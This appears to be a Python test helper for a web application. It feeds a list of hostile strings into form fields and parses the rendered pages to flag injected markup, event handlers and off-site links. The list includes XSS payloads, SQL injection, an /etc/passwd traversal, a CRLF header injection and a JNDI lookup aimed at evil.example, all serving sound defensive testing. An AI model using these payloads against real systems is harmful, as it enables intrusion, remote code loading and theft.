"""What is put into every field, and how a page is read that must not hold any of it as markup."""

import json
import pathlib
import re
import unicodedata
from dataclasses import dataclass, field
from functools import cache
from urllib.parse import quote_plus

from selectolax.lexbor import LexborHTMLParser, LexborNode

from console.core.json.text import visible

ROOT = pathlib.Path(__file__).resolve().parents[2]
BLNS = json.loads((ROOT / "tests/vectors/blns/blns.json").read_text("utf-8"))
LONE_SURROGATE = "a\ud800b"  # travels as its three bytes, as a careless program sends it
NASTY = [
    *("", "\x00", "a\x00b", LONE_SURROGATE, "\x1b[31mred", "a\u202egpj.exe", "a\u200bb", "שלום", "Z̷̛", "a\u2028b"),
    *("x" * 10_240, "é" * 10_240, "\ufffe", "\U0010ffff", "\t\n\r", "a\r\nX-Injected: 1", "\ufeffa", "½٣"),
    *(
        "<script>window.__xss=1</script>",
        '"><img src=x onerror=alert(1)>',
        "'><x-evil y-evil=1>",
        "</textarea><x-evil>",
    ),
    *("</title><x-evil>", "<!--", "&lt;b&gt;&amp;", "{{ 7|add:7 }}{% load evil %}", "{0.__class__}{x!r}", "%s%n%(x)s%"),
    *("${jndi:ldap://evil.example/}", "' OR 1=1; --", "../../../etc/passwd", "javascript:alert(1)", "//evil.example"),
    *("-1", "1e400", "NaN", "9" * 400, "null", '{"a":1}', "__proto__", "http://[::1", "http://user:pw@x"),
]
# What one database or the other refuses, cuts or changes; what a page does with the rest is the same on both.
HARD_TO_STORE = NASTY[:18] + NASTY[-10:]
_WRITERS = (*(ROOT / "templates").rglob("*.html"), *(ROOT / "console/templatetags").glob("*.py"))
_TEMPLATES = "\n".join(path.read_text("utf-8") for path in _WRITERS)
_FROM_DJANGO = "path html head body input textarea select option optgroup label div tbody fieldset legend bdi"
_OF_WIDGETS = (
    "value name id type required maxlength minlength rows cols selected checked multiple min max step spellcheck "
    "autocomplete list placeholder aria-invalid aria-describedby data-char title class autocapitalize hx-preserve "
    "hx-vals xmlns version viewbox d fill fill-opacity fill-rule stroke"  # of the drawn code of an authenticator app
)
TAGS = {*re.findall(r"<([a-z][a-z0-9-]*)", _TEMPLATES), *_FROM_DJANGO.split()}
ATTRIBUTES = {*(name.lower() for name in re.findall(r"[\s\"}]([a-zA-Z][\w-]*)=\"", _TEMPLATES)), *_OF_WIDGETS.split()}
ATTRIBUTES |= set(re.findall(r"\s((?:data-)?[a-z][a-z-]+)(?=[\s>])", "".join(re.findall(r"<[a-z][^>]*>", _TEMPLATES))))
ADDRESSES = {"href", "src", "action", "formaction", "hx-get", "hx-post"}

NOT_TYPED = {"checkbox", "radio", "file"}


def encoded(data):
    """A form as a browser sends it, lone surrogates as the bytes they would be."""
    pairs = [(name, one) for name, value in data.items() for one in (value if isinstance(value, list) else [value])]
    return "&".join(f"{name}={quote_plus(str(value).encode('utf-8', 'surrogatepass'))}" for name, value in pairs)


@dataclass
class Read:
    """A page as a browser reads it: `controls` are what form fields hold, `problems` what could be foreign markup."""

    text: str = ""
    controls: dict[str, str] = field(default_factory=dict)
    problems: list[str] = field(default_factory=list)


def read(html):
    found = Read()
    tree = LexborHTMLParser(html)
    for element in tree.root.traverse():
        if element.is_element_node:
            _judge(element, found)
    found.text = tree.root.text()
    return found


def _judge(element: LexborNode, found):
    tag, attributes = element.tag, {name: value or "" for name, value in element.attributes.items()}
    if _bare(tag) not in TAGS:
        found.problems.append(f"element {tag}")
    if tag == "script" and element.text().strip() and attributes.get("type") != "application/json":
        found.problems.append("a script with text")
    for name, value in attributes.items():
        if _bare(name) not in ATTRIBUTES or name.startswith("on") or name in ("style", "srcdoc"):
            found.problems.append(f"attribute {name} of {tag}")
        if name in ADDRESSES and (not value.startswith(("/", "#", "?")) or value.startswith(("//", "/\\"))):
            found.problems.append(f"{name}={value[:60]}")
    if attributes.get("name") and tag in ("input", "textarea") and attributes.get("type") not in NOT_TYPED:
        held = attributes.get("value", "") if tag == "input" else element.text()
        found.controls.setdefault(attributes["name"], held)


@cache
def _bare(name):
    """Without the namespace of a drawing."""
    return str(name).rpartition("}")[2].lower()


def as_read(text):
    """A text as a browser gives it back: other line ends, and without what no page can hold."""
    whole = text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")
    return re.sub(r"\r\n?", "\n", re.sub("[\x00\ufffd\ufffe]", "", whole)).strip()


def loosely(text):
    """For comparing what is shown: without blanks, marks of hidden characters and their badges."""
    shown = re.sub(r"U\+[0-9A-F]{4,6}|[‹›]", "", visible(text))
    return "".join(char for char in shown if unicodedata.category(char)[0] not in "CZ" and char != "\ufffd")
